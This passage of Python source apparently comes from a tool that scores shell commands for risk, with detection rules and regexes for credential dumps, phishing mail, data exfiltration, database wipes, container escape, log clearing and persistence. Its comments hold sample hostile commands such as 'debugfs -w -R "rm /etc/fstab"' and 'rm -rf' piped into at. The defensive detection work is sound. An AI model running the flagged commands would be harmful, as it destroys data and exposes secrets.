            self._add("shell.identity", RiskLevel.MEDIUM if scratch else RiskLevel.HIGH, Category.FILESYSTEM,
                      "ldapdelete -r deletes a directory entry with everything below it (a whole OU of accounts)"
                      + (" (a test directory on this machine)" if scratch else ""), node)  # fmt: skip
        self._directory_password_guessing(name, node)
        if name == "slapcat":
            flow.secret = True  # every entry of the directory, password hashes included
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      "slapcat dumps the whole directory (every entry and password hash)", node)  # fmt: skip
        if name == "ldapsearch":
            _, operands = W.options(args, frozenset({"-H", "-D", "-w", "-b", "-o", "-E", "-s", "-y", "-f", "-l", "-z"}))
            if any(PASSWORD_HASH_ATTRIBUTES.fullmatch(o) for o in operands[1:]):
                flow.secret = True
                self._add("shell.secret-read", RiskLevel.HIGH, Category.EXFILTRATION,
                          "ldapsearch reads the directory's password hashes", node)  # fmt: skip
            if operands and directory_dump(operands[0], operands[1:]):
                flow.secret = True  # every person of the directory with every attribute they have
                self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          "ldapsearch reads every person or object of the directory with all attributes",
                          node)  # fmt: skip
        if name == "az" and args[:1] == ["rest"]:
            method = (W.option_values(args, "--method", "-m") or ["GET"])[0]
            for url in W.option_values(args, "--url", "--uri", "-u")[:1]:
                risk = identity_request(method, url, " ".join(W.option_values(args, "--body", "-b")))
                if risk is not None:
                    self._add("shell.identity", risk.level, risk.category, f"az rest {risk.what}", node)

    def _rule_mailer(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Mail urging people to log in behind a link, sent to each address of a list: credential phishing."""
        if self._loops and credential_lure(self._text(node) if node is not None else " ".join(args)):
            self._add("shell.phishing", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} sends credential-phishing mail to a list of addresses", node)  # fmt: skip
        for attachment in W.option_values(args, "-a", "-A", "--attach", "--attach-file"):
            if attachment in self.staged or paths.classify(attachment).secret:
                self._add("shell.exfiltration", RiskLevel.CRITICAL, Category.EXFILTRATION,
                          f"{name} mails {attachment} (it holds secrets)", node)  # fmt: skip
            elif attachment in self._bulk_files or paths.personal_media(attachment):
                what = f"{name} mails {attachment} (people's files, records or a case's documents)"
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION, what, node)
            elif paths.classify(attachment).kind is paths.PathKind.EXTERNAL and personal_mailbox(" ".join(args)):
                what = f"{name} mails a server's data file ({attachment}) to a personal mailbox"
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION, what, node)

    def _rule_dropdb(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``dropdb NAME``: DROP DATABASE from the command line (a developer's local server is theirs to reset)."""
        _, operands = W.options(args, valued=frozenset({"-h", "--host", "-p", "--port", "-U", "--username",
                                                        "--maintenance-db"}))  # fmt: skip
        hosts = W.option_values(args, "-h", "--host")
        local = bool(hosts) and all(h in ("localhost", "127.0.0.1", "::1") for h in hosts)
        if operands and not throwaway_database(operands[-1]) and not (local and not production_target(operands[-1])):
            # (`createdb app_test_x … dropdb app_test_x`, `dropdb staging; createdb staging; pg_restore …`: a
            # database this script makes, or makes again)
            source = self._source.decode("utf-8", "replace")
            made = HOLE not in operands[-1] and made_here(operands[-1], source)
            # (`SCRATCH="restore_check_$(date …)"; createdb "$SCRATCH"; … dropdb "$SCRATCH"`: the same variable, the
            # database made first; made again after the drop, it is what was there that goes)
            spelled = self._text(node).split()[-1] if node is not None and self._text(node).split() else ""
            before = self.enclosing + (source[: node.start_byte] if node is not None else "")
            made = made or (
                "$" in spelled and re.search(r"\bcreatedb\b[^\n]*" + re.escape(spelled), before) is not None
            )
            self._add("shell.drop-database", RiskLevel.MEDIUM if made else RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} drops the whole database {operands[-1]}"
                      + (" (one this script creates)" if made else ""), node)  # fmt: skip

    def _rule_restore(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """A restore that first drops what the target holds (``pg_restore --clean``, ``mongorestore --drop``)
        run against a production database: its live data is replaced by the dump's."""
        dropping = {"pg_restore": ("--clean", "-c"), "mongorestore": ("--drop",)}[name]
        target = W.option_values(args, "-d", "--dbname", "--uri", "-h", "--host") + [
            a.split("=", 1)[1] for a in args if a.startswith(("--dbname=", "--uri=", "--host="))
        ]
        # `-d "$PROD_DATABASE_URL"`: the variable's name says where, when its value is unknown here
        spelled = _spelled_words(self._text(node)) if node is not None else []
        target += W.option_values(spelled, "-d", "--dbname", "--uri", "-h", "--host")
        if any(a in dropping or (name == "pg_restore" and re.fullmatch(r"-\w*c\w*", a)) for a in args) and (
            production_target(" ".join(target))
        ):
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} drops and replaces the objects of a production database", node)  # fmt: skip

    def _rule_redis(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """redis-cli commands that wipe the server, cut off its clients or open it up."""
        _, operands = W.options(args, valued=T.REDIS_CLI_VALUED)
        host = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-h", "-u")), "localhost")
        local = any(h in host for h in _LOOPBACK) or host.startswith("/")
        words = [w.upper() for w in operands]
        verb = " ".join(words[:2]) if words[:1] in (["CLIENT"], ["CONFIG"], ["DEBUG"]) else " ".join(words[:1])
        if verb in _REDIS_READS and not local:
            flow.download = True  # a job or message other services queued on a shared server: not this code's data
        if verb in ("FLUSHALL", "FLUSHDB"):
            what, category = "empties the whole database", Category.FILESYSTEM
        elif verb in ("CLIENT KILL", "SHUTDOWN", "DEBUG SEGFAULT", "DEBUG SLEEP"):
            what, category = "cuts off the server's clients (or stops it)", Category.PROCESS
        elif (
            verb == "CONFIG SET"
            and len(words) > 2
            and words[2] in ("DIR", "DBFILENAME", "PROTECTED-MODE", "REQUIREPASS", "SLAVEOF", "REPLICAOF")
        ):
            what, category = "reconfigures where the server writes (or who may connect)", Category.PRIVILEGE
        else:
            danger = dangerous_sql(" ".join(operands))  # DEBUG POPULATE of millions of keys
            if danger is None:
                return
            what, category = danger
        # a developer's own local redis (a test database) is theirs to wipe; a shared server is not
        # (`-h "${REDIS_HOST:-127.0.0.1}"` with the host read from `.env.production`: production's)
        own = local and not self._production()
        level = RiskLevel.MEDIUM if local and own and category is Category.FILESYSTEM else RiskLevel.HIGH
        self._add("shell.data-service", level, category, f"{name} {verb} {what}", node)

    def _rule_certbot(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """certbot's hooks are shell commands it runs (as root) on every issue or renewal."""
        hooks = ("--deploy-hook", "--pre-hook", "--post-hook", "--manual-auth-hook", "--manual-cleanup-hook")
        for i, arg in enumerate(args):
            option, _, value = arg.partition("=")
            if option in hooks:
                command = value or (args[i + 1] if i + 1 < len(args) else "")
                if command:
                    self._nested(command, "shell", node, f"certbot {option}")

    def _rule_db_dump(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Dumps of every database of a server hold every user's data and the password hashes."""
        every = name == "pg_dumpall" or any(a in ("--all-databases", "-A") for a in args)
        if name == "mongodump":
            every = not any(a.startswith(("--db", "-d", "--uri")) for a in args)
        if every:
            flow.secret = True

    def _rule_nsenter(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if _enters_host(args):
            self._add(
                "shell.container-escape",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                "nsenter enters the namespaces of pid 1 (the host, from a privileged container)",
                node,
            )

    def _rule_mknod(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``mknod /tmp/hd b 8 1``: a disk's device node made where this script can open it (raw access to the disk,
        past every file permission: from a container, the host's disk). FIFOs and the usual character devices of a
        root file system being built (null, zero, random, tty) are set-up."""
        operands = W.skip_options(args, {"-m", "--mode", "-Z", "--context"})
        if len(operands) >= 2 and operands[1] == "b":
            what = f"mknod makes a block device node ({operands[0]}): raw access to a disk, past file permissions"
            self._add("shell.device-node", RiskLevel.HIGH, Category.PRIVILEGE, what, node)

    def _rule_mokutil(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``mokutil --disable-validation``: shim stops checking signatures (any bootloader or module loads)."""
        if "--disable-validation" in args or "--reset" in args:
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"mokutil {' '.join(args)} turns off or resets Secure Boot's signature checks", node)  # fmt: skip

    def _rule_debugfs(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``debugfs -w -R "rm /etc/fstab" /dev/sda1``: files of an unmounted file system changed block by block."""
        requests = " ".join(W.option_values(args, "-R", "-f"))
        if "-w" in args and _DEBUGFS_WRITES.search(requests):
            self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"debugfs -w changes files on a disk's file system directly ({requests[:60]})", node)  # fmt: skip

    def _rule_windows(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if name == "rd" and args[:1] and args[0] in _RUNDECK_VERBS:
            self._rundeck(args, node)  # Rundeck's CLI, not cmd's `rd` (rmdir)
            return
        lowered = [a.lower() for a in args]
        joined = " ".join(lowered)
        if name == "net":
            self._rule_directory(name, args, node, flow)  # Windows' `net` and Samba's `net rpc` share the name
        if name == "vssadmin" and "delete" in lowered:
            self._add(
                "shell.delete",
                RiskLevel.CRITICAL,
                Category.FILESYSTEM,
                "vssadmin deletes the backups (shadow copies)",
                node,
            )
        elif name == "schtasks" and "/create" in lowered:
            self._add(
                "shell.persistence", RiskLevel.HIGH, Category.PERSISTENCE, "schtasks creates a scheduled task", node
            )
        elif name == "reg" and lowered[:1] in (["add"], ["import"]) and "currentversion\\run" in joined:
            self._add(
                "shell.persistence",
                RiskLevel.HIGH,
                Category.PERSISTENCE,
                "reg add writes a Run key (starts at logon)",
                node,
            )
        elif name == "wevtutil" and lowered[:1] in (["cl"], ["clear-log"]):
            self._add("shell.history-tamper", RiskLevel.HIGH, Category.PERSISTENCE, "wevtutil clears event logs", node)
        elif name in ("bcdedit", "cipher") and (name == "bcdedit" or "/w" in joined):
            self._add(
                "shell.kernel",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} changes boot settings or wipes free space",
                node,
            )
        elif name == "net" and lowered[:1] in (["user"], ["localgroup"]) and "/add" in lowered:
            self._add(
                "shell.user-admin",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                "net user/localgroup /add changes accounts",
                node,
            )
        elif name in ("del", "erase", "rd") or (name == "rmdir" and "/s" in lowered):
            recursive = "/s" in lowered
            for target in [a for a in args if not a.startswith("/") or len(a) > 3]:
                self._delete(target, node, recursive=recursive, via=name)
        elif name == "format" and any(len(a) == 2 and a[1] == ":" for a in args):
            self._add("shell.disk-format", RiskLevel.CRITICAL, Category.FILESYSTEM, "format erases a drive", node)

    def _rule_fill(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        size: int | None = None
        if name == "fallocate":
            for i, a in enumerate(args):
                if a in ("-l", "--length") and i + 1 < len(args):
                    size = W.size(args[i + 1])
        if size is not None and size >= T.DISK_FILL:
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE, f"{name} allocates {size:,} bytes", node)
        elif size is not None and size >= 1 << 30 and any(loop.huge or loop.endless for loop in self._loops):
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} allocates {size:,} bytes in every round of a loop of thousands (fills the disk)",
                      node)  # fmt: skip
        elif name in ("fallocate", "dd") and (
            re.search(
                r"\$\(\s*(?:df|stat\s+-f)\b[^)]*(?:avail|%a|-B1|-b|print\s+\$4\b)",  # (`df -P`'s 4th: free)
                (self._text(node) if node is not None else "")
                + ("\n" + self._source.decode("utf-8", "replace") if any(HOLE in a for a in args) else ""),
            )
            # `df -P /var | awk 'NR==2{print $4}' | xargs -I{} fallocate -l {}K …`: the free space, piped in
            or (any(HOLE in a for a in args) and _DF_INTO_XARGS.search(self._source.decode("utf-8", "replace")))
        ):
            # the size is whatever the disk has left: the disk is full afterwards
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} allocates all the free space of the disk", node)  # fmt: skip

    def _rule_locate(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``locate -r '\\.db$'``: the matching files of the whole machine, from the file-name database."""
        if not any(a in ("-S", "--statistics", "-c", "--count", "-h", "--help", "-V", "--version") for a in args):
            flow.listing = "/"

    def _rule_editor(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``vim -Es -c '!cmd'``, ``nvim -c 'lua …'``, ``emacs --batch --eval '(shell-command …)'``: what the editor
        is told to run, graded as the shell command, the inline code or the file operation it amounts to."""
        actions = editor_actions(name, args)
        if not actions.runs_code:
            return
        if flow.remote and any(HOLE in script for script in actions.scripts):
            self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                      f"{name} runs editor commands that were downloaded", node)  # fmt: skip
        for url in actions.sourced_urls:
            self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                      f"{name} runs an editor script fetched from {url}", node)  # fmt: skip
        for command in actions.commands:
            self._nested(command, "shell", node, f"a command run by {name}")
        for language, code in actions.code:
            if language == "python":
                self._nested(code, "python", node, f"{name} {language} code")
            else:
                self._other_interpreter(language, code, node, "-e")
        for listed, verb in ((actions.emptied, "empties {}"), (actions.encrypted, "encrypts {} with a key it forgets")):
            for path in listed:
                info = paths.classify(path)
                every = HOLE in path or any(c in path for c in "*?[")
                if info.kind in _BULK_KINDS or (every and info.kind is not paths.PathKind.TEMP):
                    level = RiskLevel.HIGH if every or info.kind is not paths.PathKind.HOME else RiskLevel.MEDIUM
                    self._add("shell.delete", level, Category.FILESYSTEM,
                              f"{name} {verb.format(paths.describe(info))} (its content is gone)", node)  # fmt: skip
        growth = endless_growth("\n".join(actions.scripts))
        if growth:
            self._add("shell.unbounded-growth", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} commands fill the {growth} in an endless loop", node)  # fmt: skip

    def _rule_at(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if (name == "at" and any(a in ("-l", "-r", "-d") for a in args)) or name == "atq":
            return
        self._add(
            "shell.persistence", RiskLevel.MEDIUM, Category.PERSISTENCE, f"{name} schedules a command for later", node
        )
        typed = self._heredoc_text if self._heredoc_text is not None else self._stdin_text
        if typed and "-f" not in args:
            self._nested(typed, "shell", node, f"an {name} job")  # `echo 'rm -rf …' | at midnight`: what runs then


#: A constant command handed to the shell from inline perl/ruby/php/node/lua/awk code:
#: system("..."), exec('...'), popen(...), shell_exec, os.execute, execSync, `...`.
#: Where a bulk upload of every file found is a leak (not a project directory, not /tmp).
_BULK_KINDS = frozenset(
    {
        paths.PathKind.ROOT,
        paths.PathKind.SYSTEM_TOP,
        paths.PathKind.SYSTEM,
        paths.PathKind.HOME,
        paths.PathKind.HOME_TOP,
    }
)
#: An application's settings folder (under /etc, or an installed application's `config` folder), or its production or
#: secrets settings file.
_SETTINGS_HOLDING_SECRETS = re.compile(
    r"^/etc/[\w.-]+/?$|(?:^|/)[\w.-]*(?:production|secrets?)[\w.-]*\.(?:ya?ml|json|conf|ini|toml|py|php|env)$"
    r"|^/(?:opt|srv|var/www|var/lib)/[\w.-]+/(?:[\w.-]+/)*(?:config|configuration|conf|settings)/?$"
)
#: An installed application's settings file (`/var/www/mautic/app/config/local.php`, `/opt/app/config/production.yml`).
_INSTALLED_SETTINGS_FILE = re.compile(
    r"^/(?:etc|opt|srv|var/www|var/lib)/(?:[\w.-]+/)+(?:local|config|settings|parameters|production|secrets?)"
    r"\.(?:php|ya?ml|py|json|ini|toml|conf)$"
)


def _internet_url(url: str) -> bool:
    """``url`` names a host on the internet, by name or by a public address."""
    host = urllib.parse.urlsplit(url).hostname or ""
    return outside_url(url) or outside_address(host)


#: A backup tool's command that puts files into its repository (not one that takes them out: `extract`, `restore`).
_BACKUP_TAKEN = re.compile(r"\b(?:backup|create|snapshot)\b")
_BACKUP_RESTORED = re.compile(r"\b(?:extract|restore|dump|mount|cat)\b")
#: Backup tools that encrypt what they keep.
_ENCRYPTING_BACKUPS = frozenset({"restic", "borg", "kopia", "duplicity", "borgmatic"})
#: A login at an OAuth token endpoint (`grant_type=password`, `…/oauth/token`, PeerTube's `/users/token`).
_TOKEN_REQUEST = re.compile(r"\bgrant_type=|/(?:oauth2?/(?:v\d+/)?|users/)token\b")
#: A pipeline starting with a database client's query (`sqlite3 -csv shop.db "SELECT …" | …`).
_DATABASE_QUERY = re.compile(r"\s*(?:sudo\s+(?:-u\s+\S+\s+)?)?(?:sqlite3|psql|mysql|mariadb|clickhouse-client|sqlcmd)"
                             r"\b[^|]*\bSELECT\b", re.IGNORECASE)
#: Everyone's profile folders of a machine (a Windows disk's `Users`, a Linux disk's `home`) below a mount point.
_PROFILES_FOLDER = re.compile(r"^/(?:mnt|media|tmp)/[^/]+/(?:Users|home)(?:/\.?)?$")
#: A volume named for an application's data (`portainer_data`, `app_pgdata`, `nextcloud-db`).
_DATA_VOLUME = re.compile(
    r"(?:^|[_-])(?:data|db|pgdata|postgres(?:ql)?|mysql|mariadb|mongo(?:db)?|storage|uploads|media)(?:[_-]|$)"
)
#: A volume named for a test run or a throwaway (`app_test_pgdata`, `chroma-it-data`, `ci_cache`).
_THROWAWAY_VOLUME = re.compile(r"(?:^|[_-])(?:test|tests|it|ci|e2e|tmp|temp|scratch|dev)(?:[_-]|$)", re.IGNORECASE)
#: Container managers' own published images, which manage the engine through its socket (Portainer and its agent,
#: Watchtower, Dockge, Dozzle).
_CONTAINER_MANAGER_IMAGE = re.compile(r"^(?:docker\.io/)?(?:portainer/(?:portainer-[ce]e|agent)|containrrr/watchtower"
                                      r"|louislabs/dockge|amir20/dozzle)(?::[\w.-]+)?$")
#: ...and the host folders they mount for it (the socket, and the engine's own volumes for Portainer's agent).
_MANAGER_MOUNTS = frozenset({"/var/run/docker.sock", "/run/docker.sock", "/var/lib/docker/volumes"})
#: A find whose only action is making what it finds private (`-exec chmod 600 {} +`, `-exec chmod go-rwx`).
_TIGHTENS_ONLY = re.compile(r"^(?:(?!-exec\b|-execdir\b|-print|-ok\b|-fprint|-ls\b).)*-exec(?:dir)?\s+chmod\s+"
                            r"(?:0?[46][04]0|0?700|0?750|go-rwx|og-rwx|g-rwx,o-rwx|o-rwx|u=rw,go=)"
                            r"\s+\{\}\s*[;+\\]*\s*$")  # fmt: skip
#: GStreamer sources that capture a camera, a microphone or the screen.
_CAPTURE_ELEMENT = re.compile(r"\b(?:v4l2src|libcamerasrc|nvarguscamerasrc|pulsesrc|alsasrc|pipewiresrc|ximagesrc"
                              r"|avfvideosrc|autovideosrc|autoaudiosrc)\b")  # fmt: skip
#: The host a GStreamer network sink sends to (`udpsink host=…`, `rtmpsink location=rtmp://…`).
_STREAM_SINK_HOST = re.compile(r"\b(?:udpsink|tcpclientsink|multiudpsink)\b[^!]*?\bhost=([\w.-]+)"
                               r"|\b(?:rtmpsink|rtmp2sink|srtsink|srtclientsink)\b[^!]*?(?:location|uri)="
                               r"\w+://([\w.-]+)")  # fmt: skip
#: Database servers' process names.
#: Folders of files other people send in (a portal's uploads, a mail gateway's inbound files).
_UPLOAD_FOLDERS = frozenset({"upload", "uploads", "user_uploads", "incoming", "inbound", "submissions", "submission"})
#: A download command at the start of a process substitution (`<(curl -s URL)`).
_DOWNLOADER_WORD = re.compile(r"^<\(\s*(?:curl|wget|fetch|aria2c|nc|ncat)\b")
#: Commands that pass on some of the lines they read (a listing filtered stays a listing of the same files).
_LINE_FILTERS = frozenset({"grep", "egrep", "fgrep"})  # (not `tail -n +8`: the newest kept, the rest rotated)
#: An rclone configuration's section: `[name]` and its lines (`type = mega`, `user = …`).
_RCLONE_SECTION = re.compile(r"^\[([\w.-]+)\]\s*\n((?:[ \t]*\w+[ \t]*=[^\n]*\n?)+)", re.MULTILINE)
#: A remote's address in its section (`endpoint = https://…`, `url = https://…`).
_REMOTE_ADDRESS = re.compile(r"^[ \t]*(?:endpoint|url)[ \t]*=[ \t]*(https?://\S+)", re.MULTILINE)
#: A request body archiving or trashing what it is sent for.
_ARCHIVED_BODY = re.compile(r"[\"'](?:archived|trashed|in_trash)[\"']\s*:\s*true\b")
_NSUPDATE_ZONE = re.compile(r"^\s*zone\s+(\S+)", re.MULTILINE | re.IGNORECASE)
_NSUPDATE_DELETE = re.compile(r"^\s*(?:update\s+)?del(?:ete)?\s+(\S+)(?:\s+\d+)?(?:\s+IN)?(?:\s+([A-Za-z]+))?",
                              re.MULTILINE | re.IGNORECASE)  # fmt: skip
_PICKLED_SUFFIXES = (".pkl", ".pickle", ".joblib", ".pt", ".ckpt")
_BARE_HOST_URL = re.compile(r"^\w+://(\d{1,3}(?:\.\d{1,3}){3})[:/]")
#: BIND's DNSSEC key tools: keys made, dated, imported or used to sign in the key folder given with -K.
_DNSSEC_KEY_TOOLS = frozenset({"dnssec-keygen", "dnssec-settime", "dnssec-signzone", "dnssec-keyfromlabel",
                               "dnssec-importkey", "dnssec-revoke", "dnssec-dsfromkey", "dnssec-cds"})  # fmt: skip
_AWS_S3_VALUED = frozenset({"--region", "--profile", "--endpoint-url", "--storage-class", "--acl", "--exclude",
                            "--include", "--sse", "--expires"})  # fmt: skip
_LITERAL_AWS_KEY = re.compile(r"\bAWS_ACCESS_KEY_ID=[\"']?(?:AKIA|ASIA)[0-9A-Z]{16}\b")
#: Options of zfs and zpool that take a value (`-o mountpoint=…`, `-m /mnt`, `-V 10G`).
_ZFS_VALUED = frozenset({"-o", "-O", "-m", "-R", "-t", "-V", "-b", "-s", "-d"})
#: A listing narrowed to some items (a property, a tag, a name) or rotated (all but the newest few).
_SELECTED_LISTING = re.compile(
    r"\blist\b[^\n|]*\s--(?:property|tags?|any-tags|name)\b|\btail\s+-n\s*\+(?:\d|\$)|\bhead\s+-n\s*-(?:\d|\$)"
    r"|\.\[\d+:\]"
    # (a program's own loop: snapshots of one naming scheme older than a retention, `"@auto-" in name and … > KEEP`)
    r"|[\"']@(?:auto|daily|hourly|weekly|monthly|zfs-auto-snap)[\w-]*[\"'][^\n]{0,120}?[<>]\s*\w*(?:KEEP|keep|cutoff|CUTOFF)"
)
#: A listing cut to what is past its newest few (`jq '… | .[7:]'`, `tail -n +8`): a retention.
_PAST_THE_NEWEST = re.compile(r"\.\[\d+:\]|\btail\s+-n\s*\+\d|\bhead\s+-n\s*-\d")
#: A remote created on the command line with an OAuth token pasted in (someone's own account, not a configured one).
_RCLONE_PASTED_TOKEN = re.compile(r"\brclone\s+config\s+create\s+([\w.-]+)\s+\w+\b[^\n]*\btoken\b[^\n]*access_token")
#: Consumer cloud storage, where an account is someone's own rather than the organisation's.
_CONSUMER_CLOUD = re.compile(r"\btype\s*=\s*(?:mega|pcloud|koofr|jottacloud|opendrive|putio|fichier|yandex"
                             r"|mailru|zoho|premiumizeme|internetarchive)\b")  # fmt: skip
#: A copy to a destination named anew each time (`$RANDOM`, the date, `mktemp`, a counter).
_COPIES_ANEW = re.compile(
    r"\b(?:cp|rsync|tar\s+-?c)\b[^;\n]*(?:\$RANDOM|\$\(date|\$\(mktemp|\$\(\(|\$\{?[ij]\b)"
)
#: An installed application's own folder (`/var/discourse`, `/opt/inventree`, `/srv/app/current`), not the system's
#: shared ones under /var.
_APPLICATION_HOME = re.compile(
    r"^/(?:opt|srv|var(?!/(?:tmp|log|lib|cache|spool|run|mail|backups|local)\b))/[\w.-]+(?:/[\w.-]+)*/?$"
)
#: An empty file made under a new name (`: > "dir/t_$i"`, `> "f-$RANDOM"`), and a name that changes every round.
_EMPTY_FILE_ANEW = re.compile(r"(?:^|[;&|]|\bdo)\s*:?\s*>\s*[\"']?[^\s;|&\"']*\$(?:\{?\w+|\(\()")
_NAME_CHANGES = re.compile(r"\$\(\(|\(\(\s*\w+\s*(?:\+\+|\+=)|\blet\b|\$RANDOM|\$\(date\b|\$\(mktemp")
#: Commands that print (what a loop's redirect then writes).
_PRINTS = re.compile(r"(?:^|[;&|\s])(?:printf|echo|cat|yes|head|dd|base64|openssl\s+rand)\b")
_HEX_LITERAL = re.compile(r"['\"]((?:[0-9a-fA-F]{2}){12,})['\"]")
_BASE64_LITERAL = re.compile(r"['\"]([A-Za-z0-9+/]{24,}={0,2})['\"]")
_EVERY_USERS_HOME = re.compile(rf"/home/(?:\*|{re.escape(HOLE)})(?:/|$)")
#: sipp's options that take a value (the rest are the scenario's target host).
_SIPP_VALUED = frozenset({"-sn", "-sf", "-r", "-rp", "-l", "-m", "-s", "-p", "-i", "-d", "-t", "-inf", "-trace_msg",
                          "-users", "-rate_increase", "-max_recv_loops", "-timeout", "-ap", "-au", "-key"})  # fmt: skip
_SAVED_TIME = re.compile(r"=\s*[\"']?\$\(\s*(?:stat\b[^)]*%[yYxXzZ]|date\s+-r\b)")
#: curl and wget options whose value is sent (a body, a header, a login, a form, a file, a cookie).
_CURL_VALUED_SENDS = frozenset({"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "-H", "--header",
                                "-u", "--user", "-F", "--form", "-T", "--upload-file", "-b", "--cookie", "-e",
                                "--referer", "-A", "--user-agent", "--post-data", "--body-data"})  # fmt: skip
#: Programs that sign binaries, modules or firmware variables with a key they are given.
_SIGNERS = frozenset({"sbsign", "sbverify", "sbvarsign", "kmodsign", "sign-file", "pesign", "osslsigncode",
                      "sign-efi-sig-list"})  # fmt: skip
#: A bind password taken from a variable (`-w "$p"`, `-w "bad$n"`), and directories that are a test's own.
_BIND_PASSWORD_VARIABLE = re.compile(r"\s-w\s+[\"']?[^\s\"']*\$\{?(\w+)")
_LOCAL_DIRECTORY = re.compile(r"^ldapi:|://(?:localhost|127\.0\.0\.1|\[::1\])\b")
_CI_ENTRY = re.compile(r"(?:ou|cn)=ci[-_]|\$\{?CI_|dc=(?:test|dev)\b", re.IGNORECASE)
_KEYTAB_WRITERS = frozenset({"ipa-getkeytab", "kadmin", "kadmin.local", "ktutil"})
#: Databases of package managers (Nix's store database, RPM's), and SQL that changes rows or tables.
_PACKAGE_DATABASES = ("/nix/var/nix/db/", "/var/lib/rpm/", "/var/lib/dpkg/")
_SQL_WRITE = re.compile(r"\b(?:DELETE|UPDATE|DROP|INSERT|ALTER)\b", re.IGNORECASE)
_REMOVABLE_DEVICE = re.compile(r"/dev/(?:sd[b-z]|mmcblk\d+|disk/by-id/(?:usb|mmc)-[^/]+)")
#: A download run inside an unquoted here-document (`python3 - <<EOF` … `$(wget -qO- URL)` … `EOF`).
_DOWNLOAD_IN_HEREDOC = re.compile(r"\$\(\s*(?:curl|wget|fetch)\b|`\s*(?:curl|wget)\b")
#: A bucket prefix that says it holds temporary or scratch objects (`s3://ml/batch/tmp/$RUN_ID/`).
_SCRATCH_PREFIX = re.compile(r"^(?:s3|gs)://[^/]+/(?:[^/]+/)*(?:tmp|temp|scratch|staging-tmp)/")
_KEY_STORED = re.compile(r"put-secret-value|create-secret|put-parameter|vault\s+kv\s+put")
_OFF_WORDS = frozenset({"off", "0", "false", "disable", "disabled", "stop"})
#: (a comma list's every port: `--dports 8123,9000`, `ufw allow … port 8123,9000`)
_OPENED_PORT = re.compile(r"(?:^|[\s,]|--dport\s+|allow\s+)(\d{2,5})(?::\d{2,5})?(/tcp|/udp)?\b")
_DF_INTO_XARGS = re.compile(r"\bdf\b[^\n|]*\|[^\n]*\|\s*xargs\b[^\n]*\b(?:fallocate|dd)\b")
_WRITES_A_FILE = re.compile(r"\bdd\b[^;|&]*\bof=(?!/dev/null)|\bfallocate\b|\btruncate\s+-s|\bhead\s+-c[^;|&]*>")
_CAPTURE_PROBES = re.compile(
    r"readline|tty_write|pty_write|SSL_(?:read|write)|getpass|pam_get|sys_enter_read\b[^/]*fd\s*==\s*0"
)
_HIDDEN_TEMP_PROGRAM = re.compile(r"^/(?:tmp|var/tmp|dev/shm)/(?:[^/]*/)*\.[^/]+(?:/[^/]+)*$")
_LOGIN_URL = re.compile(r"login|signin|sign_in|sign-in|session|/auth|oauth|token|wp-login|admin", re.I)
_PASSWORD_FROM_VARIABLE = re.compile(
    r"""pass(?:word|wd)?\\?["']?\s*[:=]\s*\\?["']?\$|-u\s+["']?[^\s'"]*:\$|--user\s+["']?[^\s'"]*:\$"""
)
_CREDENTIAL_EXPORT = re.compile(
    r"""^eval\s+["']?\$\(\s*aws\s+configure\s+export-credentials\b[^)|;&]*\)["']?\s*$"""
)
_SHELL_HOOK = re.compile(r"^(?:" + TOOL_SHELL_HOOK + r")\s*$")
#: Regular expressions that match people's identifiers: US social security numbers, card numbers, medical record
#: numbers, e-mail or IPv4 addresses.
_PERSONAL_ID_PATTERN = re.compile(
    r"\[0-9\]\{3\}-\[0-9\]\{2\}-\[0-9\]\{4\}|\\d\{3\}-\\d\{2\}-\\d\{4\}|\bMRN\b|\bSSN\b"
    r"|\[0-9\]\{1,3\}\\\.\)\{3\}|\(\[0-9\]\{1,3\}\\\.\)\{3\}|\\d\{1,3\}\\\.\\d\{1,3\}"
    r"|\[0-9\]\{4\}\[ -\]\?|\[0-9\]\{13,16\}|\[0-9\]\{1[3-9]\}|@\[A-Za-z0-9\.-\]\+\\\.",
    re.IGNORECASE,
)
#: Collections and tables of people: exported whole, everyone's contact and account data.
_PEOPLE_COLLECTION = re.compile(
    r"\b(?:users?|customers?|clients|patients|employees|members|accounts|contacts|people)\b", re.IGNORECASE
)
_JQ_ENV = re.compile(r"(?:^|[|(,\s])env\b(?!\s*\.\w)|\$ENV\b")
#: A sed substitution (``s/pattern/replacement/flags``) and what it writes.
_SED_SUBSTITUTION = re.compile(
    r"^s(?P<d>[^\w\s\\])(?:(?!(?P=d)).)*(?P=d)(?P<replacement>(?:(?!(?P=d)).)*)(?P=d)[gpiI0-9]*$"
)
